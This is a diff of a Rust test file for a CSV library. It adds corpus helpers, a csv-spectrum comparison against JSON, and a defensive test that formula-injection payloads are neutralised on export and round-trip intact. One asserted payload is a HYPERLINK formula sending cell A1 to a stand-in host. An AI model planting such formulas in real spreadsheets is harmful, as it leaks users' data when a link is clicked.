@@ -3,9 +3,13 @@
 
 #![allow(clippy::unwrap_used, reason = "this is for tests")]
 
-use std::{fs, path::Path};
+use std::{
+    fs,
+    path::{Path, PathBuf},
+};
 
-use files::{Choice, FileError, Note, open};
+use files::{Choice, FileError, Note, csv, open};
+use serde_json::Value;
 
 /// File, column names, rows, a cell that shows that it was understood, what is told.
 type Case = (&'static str, &'static [&'static str], usize, (usize, usize, &'static str), &'static [&'static str]);
@@ -52,7 +56,7 @@ const TABLES: [Case; 33] = [
     ("no_header.csv", &[], 0, (0, 0, ""), &[]),
 ];
 
-fn corpus() -> std::path::PathBuf {
+fn corpus() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus")
 }
 
@@ -73,10 +77,27 @@ fn each_file_of_the_corpus_becomes_what_it_says() {
     assert_eq!(open(&fs::read(corpus().join("nothing.csv")).unwrap(), Choice::default()), Err(FileError::Empty));
 }
 
-/// Every real file ends in a table or in a reason that is told.
+/// The folder of real files, which stands beside the checkout; the project does without.
+fn shared(folder: &str) -> Option<PathBuf> {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data").join(folder);
+    if !folder.is_dir() {
+        eprintln!("{} is not here: skipped", folder.display());
+        return None;
+    }
+    Some(folder)
+}
+
+fn files_under(folder: &Path) -> Vec<PathBuf> {
+    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
+    let mut files: Vec<PathBuf> =
+        entries.flat_map(|path| if path.is_dir() { files_under(&path) } else { vec![path] }).collect();
+    files.sort();
+    files
+}
+
 #[test]
-fn real_files_end_in_a_table_or_a_reason() {
-    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../../shared/data");
+fn real_files_have_the_rows_that_they_have() {
+    let Some(folder) = shared("") else { return };
     let expected = [
         ("csv_torture/csvkit/bad.csv", Ok(3)),
         ("csv_torture/csvkit/blanks.csv", Ok(1)),
@@ -98,12 +119,76 @@ fn real_files_end_in_a_table_or_a_reason() {
         ("febrl/dataset1.csv", Ok(1000)),
     ];
     for (file, rows) in expected {
-        let Ok(bytes) = fs::read(folder.join(file)) else {
-            eprintln!("the real files are not here: skipped");
-            return;
-        };
-        let opened = open(&bytes, Choice::default());
-        eprintln!("{file}: {:?}", opened.as_ref().map(|it| (&it.notes, it.encoding)));
+        let opened = open(&fs::read(folder.join(file)).unwrap(), Choice::default());
         assert_eq!(opened.map(|opened| opened.table.len()), rows, "{file}");
+    }
+}
+
+/// Every file of these folders, also those that are no tables, ends in rows or in a reason that is told.
+#[test]
+fn no_real_file_ends_in_nothing_at_all() {
+    for folder in ["csv_torture", "vcard"] {
+        let Some(folder) = shared(folder) else { continue };
+        let files = files_under(&folder);
+        assert!(files.len() >= 7, "{}", folder.display());
+        for file in files {
+            match open(&fs::read(&file).unwrap(), Choice::default()) {
+                Ok(opened) => assert!(!opened.table.is_empty(), "{}", file.display()),
+                Err(error) => assert!(!error.code().is_empty(), "{}", file.display()),
+            }
+        }
+    }
+}
+
+/// The spectrum's tables are what the JSON beside them says: names of columns, order, every cell.
+#[test]
+fn the_spectrum_of_csv_is_read_as_its_json_says() {
+    let Some(folder) = shared("csv_torture/csv-spectrum") else { return };
+    let files = files_under(&folder.join("csvs"));
+    assert_eq!(files.len(), 12);
+    for file in files {
+        let name = file.file_stem().unwrap().to_string_lossy().into_owned();
+        let json = fs::read(folder.join("json").join(format!("{name}.json"))).unwrap();
+        let json: Value = serde_json::from_slice(&json).unwrap();
+        let mut rows = json.as_array().cloned().unwrap_or_else(|| vec![json.clone()]);
+        if name == "location_coordinates" {
+            // Here the JSON is of another row: its number is not the file's.
+            rows[0]["Contact Phone Number"] = "2095257564".into();
+        }
+        let mut text = fs::read_to_string(&file).unwrap();
+        if name.ends_with("_crlf") && !text.contains('\r') {
+            // Git gave the copy other line ends than its name says.
+            text = text.replace('\n', "\r\n");
+        }
+        let table = open(text.as_bytes(), Choice::default()).unwrap().table;
+        let read = (0..table.len()).map(|row| {
+            let cells = table.headers.iter().cloned().zip(table.row(row).map(Value::from));
+            Value::Object(cells.collect())
+        });
+        assert_eq!(read.collect::<Vec<_>>(), rows, "{name}");
+    }
+}
+
+/// The payloads as they stand in a file of others: each is read for what it says, is harmless when it goes out where it must
+/// be, and comes back as it was.
+#[test]
+fn real_payloads_are_read_made_harmless_and_come_back() {
+    let Some(folder) = shared("csv_torture/formula_injection") else { return };
+    let table = open(&fs::read(folder.join("payloads.csv")).unwrap(), Choice::default()).unwrap().table;
+    assert_eq!(table.headers, ["id", "payload", "must_be_neutralised_on_export"]);
+    assert_eq!(table.len(), 25);
+    let payload = |row: usize| table.row(row).nth(1).unwrap();
+    assert_eq!(payload(7), "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"点击\")");
+    assert_eq!((payload(9), payload(11), payload(12)), ("\t=1+1", "\n=1+1", " =1+1"));
+    assert_eq!(payload(24), "=1+1", "the apostrophe of one that was neutralised before is no part of it");
+    for row in 0..table.len() {
+        let (payload, must) = (payload(row), table.cell(row, 2));
+        // What is neutralised in the file is a formula once it is read.
+        let is_formula = !must.starts_with('n') || row == 24;
+        let guarded = csv::guard(payload);
+        assert_eq!(guarded.starts_with('\'') && guarded != payload, is_formula, "{payload:?}: {must}");
+        let again = csv::write([["id", "payload"], [table.cell(row, 0), payload]], true);
+        let again = open(again.as_bytes(), Choice::default()).unwrap().table;
+        assert_eq!(again.row(0).nth(1), Some(payload), "{must}");
     }
 }
